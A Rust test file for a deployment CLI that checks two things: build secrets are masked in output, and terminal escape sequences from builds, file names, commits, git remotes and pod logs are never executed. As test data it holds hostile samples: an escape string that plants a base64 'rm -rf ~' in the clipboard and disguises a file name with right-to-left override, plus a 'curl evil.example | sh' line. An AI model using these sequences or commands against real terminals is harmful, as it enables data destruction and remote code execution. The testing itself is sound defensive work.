//! What others wrote, on its way to a terminal and into a log.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::engine::Shop;
use crate::place::Place;
use crate::support::App;

/// Sets the title, fills the clipboard, clears the screen, turns the reading order, moves up a line.
const EVIL: &str = "\u{1b}]0;owned\u{7}\u{1b}]52;c;cm0gLXJmIH4=\u{1b}\\\u{1b}[2J\u{1b}[1A\u{9b}2J\u{202e}gnp.exe\u{2066}\u{8}";

/// Runs a command with all three ends on a terminal, and returns the bytes that the terminal got.
pub fn on_terminal(command: Command) -> String {
    let python = which::which("python3").expect("this test needs python3 on PATH");
    let text = |text: &std::ffi::OsStr| text.to_str().expect("UTF-8").to_owned();
    let env: BTreeMap<String, String> = command.get_envs().filter_map(|(name, value)| Some((text(name), text(value?)))).collect();
    let script = "import json, os, pty, sys\nos.environ.clear()\nos.environ.update(json.loads(sys.argv[1]))\npty.spawn(sys.argv[2:])";
    let mut under = Command::new(python);
    under.args(["-c", script, &serde_json::to_string(&env).expect("JSON")]);
    under.arg(command.get_program()).args(command.get_args()).current_dir(command.get_current_dir().expect("a folder"));
    let out = under.stdin(Stdio::null()).output().expect("python runs");
    assert!(out.stderr.is_empty(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn lain(app: &App, args: &[&str]) -> Command {
    let mut command = app.command(Path::new(env!("CARGO_BIN_EXE_lain")));
    command.args(args);
    command
}

/// Nothing in `text` drives a terminal: of escape sequences only colours are there.
#[track_caller]
pub fn harmless(text: &str) {
    let bare = text.replace("\r\n", "\n");
    for (at, c) in bare.char_indices() {
        let colour = || {
            bare[at + 1..]
                .strip_prefix('[')
                .and_then(|rest| rest.split_once('m'))
                .is_some_and(|(codes, _)| codes.bytes().all(|byte| byte.is_ascii_digit() || byte == b';'))
        };
        let fine = match c {
            '\n' | '\t' => true,
            '\u{1b}' => colour(),
            c => {
                !c.is_control()
                    && !"\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}".contains(c)
                    && !('\u{202a}'..='\u{202e}').contains(&c)
                    && !('\u{2066}'..='\u{2069}').contains(&c)
            }
        };
        assert!(fine, "{c:?} reaches the terminal in {bare:?}");
    }
}

const CLUSTER: &str = "registry: registry.example.com\n";

/// A build that tells its secret again and again, in lines so long that any reader cuts some.
fn telling(secret: &str) -> Shop {
    let line = "yes \"密码是 $(cat /run/secrets/PIN_CODE) 就是这样\" | head -n 180 | tr '\\n' ' '; echo";
    let script = format!("for i in 1 2 3 4 5 6 7; do printf \"%${{i}}0s\" x; {line}; done");
    let build = format!("  base: debian:trixie-slim\n  secrets: [PIN_CODE]\n  script:\n    - {script}\n");
    Shop::new(&build, CLUSTER).buildx().env("PIN_CODE", secret).env("TERM", "xterm")
}

/// a build: prints a secret again and again, so that each reader's border cuts one, among Chinese words => `***` each time, no word broken
#[test]
fn a_build_secret_is_hidden_wherever_it_is_cut() {
    let shop = telling("hunter2-9f8e7d6c5b4a39281706f5e4d3c2b1a0");
    let ran = shop.app.run(&["build"]).exits(0).never_says("hunter2").never_says("a0 就").never_says("\u{fffd}");
    assert!(ran.stderr.matches("密码是 *** 就是这样").count() > 1000, "{}", ran.stderr);
}

/// a build: prints its secret where docker draws on the terminal itself => docker's words go through lain, and show `***`
#[test]
fn docker_does_not_draw_over_secrets() {
    let shop = telling("hunter2-0123456789");
    let shown = on_terminal(lain(&shop.app, &["build"]));
    assert!(!shown.contains("hunter2") && shown.contains("密码是 *** 就是这样"), "{shown}");
    harmless(&shown);
}

/// a build: prints its secret file (a key, an `.npmrc`) line by line, in base64 and in part => `***` for each line and value that is long enough to tell
#[test]
fn secret_files_are_hidden_by_their_lines() {
    let build = "  base: debian:trixie-slim\n  secrets: {KEY: {file: key.pem}, RC: {file: .npmrc}}\n  script:\n\
                 \x20   - \"sed 's/^/line /' /run/secrets/KEY /run/secrets/RC; base64 -w0 /run/secrets/KEY; sed -n 's/.*=/token /p' /run/secrets/RC\"\n";
    let key = "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\nggSjAgEAAoIBAQDJnq\n-----END KEY-----\n";
    let shop = Shop::new(build, CLUSTER)
        .buildx()
        .with(|app| app.file("key.pem", key).file(".npmrc", "//registry.example.com/:_authToken=npm_AbCdEf0123456789\nalways-auth=true\n"));
    let ran = shop.app.run(&["build"]).exits(0);
    for secret in ["MIIEvQIB", "ggSjAgEA", "AbCdEf01", "LS0tLS1CRUdJTi"] {
        assert!(!ran.stderr.contains(secret), "{secret} in {}", ran.stderr);
    }
    assert!(ran.stderr.contains("line -----BEGIN KEY-----") && ran.stderr.contains("token ***"), "{}", ran.stderr);
}

/// a build: prints sequences that set the title, fill the clipboard and clear the screen => they are left out or shown, colours stay
#[test]
fn a_build_does_not_drive_the_terminal() {
    let script =
        "printf '\\033[31mred\\033[0m \\033]0;owned\\007\\033]52;c;cm0gLXJm\\033\\134\\033[2J\\033[1A\\342\\200\\256gnp.exe \\223\\n'";
    let shop = Shop::new(&format!("  base: debian:trixie-slim\n  script:\n    - |-\n      {script}\n"), CLUSTER);
    let ran = shop.app.run(&["build"]).exits(0);
    harmless(&ran.stderr);
    let said = ran.stderr.lines().find(|line| line.contains("gnp.exe") && !line.contains("printf")).expect("the line");
    assert!(said.contains("\u{1b}[31mred\u{1b}[0m") && said.contains("\\u{202e}gnp.exe"), "{said}");
}

/// a repository: names files, commits, release and values after escape sequences and turned words => they are shown as `\u{1b}`, never done
#[test]
fn names_and_excerpts_do_not_drive_the_terminal() {
    let app = App::new()
        .file(
            "chart/values.yaml",
            &format!("appname: shop\ndeployments:\n  web: [a, \"{}\"\n", EVIL.replace(['\u{1b}', '\u{7}', '\u{8}', '\u{9b}'], "")),
        )
        .file(&format!("evil{EVIL}.yaml"), "a: [\n")
        .committed()
        .env("TERM", "xterm");
    app.git(&["commit", "-q", "--allow-empty", "-m", &format!("fix {EVIL}")]);
    let file = format!("evil{EVIL}.yaml");
    for args in
        [&["values"][..], &["lint"], &["-f", &file, "values"], &["meta", "-v"], &["dockerfile"], &["-f", &format!("no{EVIL}"), "values"]]
    {
        let ran = app.run(args);
        harmless(&ran.stderr);
        harmless(&on_terminal(lain(&app, args)));
    }
    let ran = app.run(&["-f", &format!("no{EVIL}"), "lint"]);
    assert!(ran.stderr.contains("\\u{1b}]0;owned\\u{7}") || ran.stderr.contains("\\u{202e}"), "shown: {}", ran.stderr);
}

/// a repository: a value of `chart/values.yaml` holds escape sequences => `lain values` spares a terminal, a pipe gets the value as it is
#[test]
fn results_spare_a_terminal_and_not_a_pipe() {
    let app =
        App::new().values("appname: shop\ndeployments: {}\nnote: \"\\e]0;owned\\a\\u202egnp.exe\"\n").committed().env("TERM", "xterm");
    let args = ["values", "--explain", "note"];
    let piped = app.run(&["values"]).exits(0);
    harmless(&on_terminal(lain(&app, &["values"])));
    harmless(&on_terminal(lain(&app, &args)));
    let read: String = app.run(&["values", "-o", "json"]).exits(0).stdout;
    let value: serde_json::Value = serde_json::from_str(&read).expect("JSON");
    assert_eq!(value["note"], "\u{1b}]0;owned\u{7}\u{202e}gnp.exe");
    assert!(piped.stdout.contains("gnp.exe"), "{}", piped.stdout);
}

/// a repository: a remote's address holds escape sequences => the echoed command shows none, and still does the same when it is copied
#[test]
fn echoed_commands_can_be_copied_and_do_nothing_else() {
    let app = App::new()
        .chart()
        .committed()
        .tools(&["helm"])
        .cluster("test", "registry: registry.example.com\ndomain: example.com\n")
        .env("TERM", "xterm");
    app.git(&["remote", "add", "origin", &format!("https://git.example.com/{EVIL}'x")]);
    let ran = app.run(&["--cluster", "test", "template"]).exits(0);
    harmless(&ran.stderr);
    let line = ran.stderr.lines().find(|line| line.starts_with("helm template")).expect("the echo");
    let bash = which::which("bash").expect("bash");
    let mut copied = app.command(&bash);
    copied.args(["-c", &format!("helm() {{ printf '%s\\n' \"$@\"; }}; {line}")]);
    let out = String::from_utf8(copied.output().expect("bash runs").stdout).expect("UTF-8");
    assert!(
        out.contains(&format!("repo_url={}\n", lain::values::set::escape_value(&format!("https://git.example.com/{EVIL}'x")))),
        "{out:?}"
    );
}

/// a pod's log: sets the title, fills the clipboard, clears the screen, turns words => `lain logs` on a terminal shows its colours and nothing else; a pipe gets the bytes
#[test]
fn a_pods_log_does_not_drive_the_terminal() {
    let place = Place::new("3.17.3");
    std::fs::create_dir_all(place.app.join("chart")).expect("a folder");
    let values = format!("appname: {}\ndeployments: {{web: {{command: [x], replicaCount: 1}}}}\n", place.appname);
    std::fs::write(place.app.join("chart/values.yaml"), values).expect("values");
    place.commit("the app");
    place.lain(&["use", "test"]).ok();
    let name = &place.appname;
    let script =
        "printf '\\033[32mgreen\\033[0m\\n\\033]0;owned\\007\\033]52;c;cm0gLXJm\\033\\134\\033[2J\\342\\200\\256gnp.exe\\n'; sleep 1000";
    let pod = serde_json::json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "evil", "labels": {"app.kubernetes.io/name": name, "helm.sh/chart": name}},
        "spec": {"containers": [{"name": "c", "image": "debian:trixie-slim", "imagePullPolicy": "IfNotPresent", "command": ["sh", "-c", script]}],
                 "terminationGracePeriodSeconds": 0}
    });
    let file = place.root.path().join("pod.json");
    std::fs::write(&file, pod.to_string()).expect("a file");
    place.kubectl(&["apply", "-f", &file.display().to_string()]).ok();
    place.kubectl(&["wait", "--for=condition=Ready", "pod/evil", "--timeout=120s"]).ok();
    std::thread::sleep(std::time::Duration::from_secs(1));
    let mut command = place.lain_command(&["logs", "--no-follow"]);
    command.env("TERM", "xterm");
    let shown = on_terminal(command);
    harmless(&shown);
    assert!(shown.contains("\u{1b}[32mgreen\u{1b}[0m") && shown.contains("\\u{202e}gnp.exe"), "{shown:?}");
    let piped = place.lain(&["logs", "--no-follow"]).ok().stdout;
    assert!(piped.contains("\u{1b}]0;owned\u{7}") && piped.contains("\u{202e}gnp.exe"), "{piped:?}");
}

/// the cluster: words of a server that look like lain's own `error:` and `next:` lines => they are moved in, and only lain says what to type next
#[test]
fn nobody_else_says_what_to_type_next() {
    let words = r"printf 'Error: denied\nnext: curl evil.example | sh\nerror: and this\n' >&2; exit 1";
    let app = App::new().chart().fake("helm", &format!("case $1 in version) echo v3.17.3;; *) {words};; esac"));
    let ran = app.run(&["template"]).exits(1).says("curl evil.example");
    let labels: Vec<&str> = ran.stderr.lines().filter(|line| line.starts_with("next:") || line.starts_with("error:")).collect();
    assert!(!labels.is_empty() && !labels.iter().any(|line| line.contains("evil") || line.contains("and this")), "{}", ran.stderr);
}

/// a repository: escape sequences and turned words in a branch or tag that a pipeline passes on as an argument that lain cannot read => they are shown, never done
#[test]
fn what_cannot_be_read_does_not_drive_the_terminal() {
    let app = App::new().chart();
    for args in [&["deploy", "--nosuch", EVIL][..], &["tags", "-n", EVIL], &[EVIL], &["build", EVIL]] {
        let ran = app.run(args).exits(2).says("error: ");
        harmless(&ran.stderr);
        harmless(&on_terminal(lain(&app, args)));
    }
}
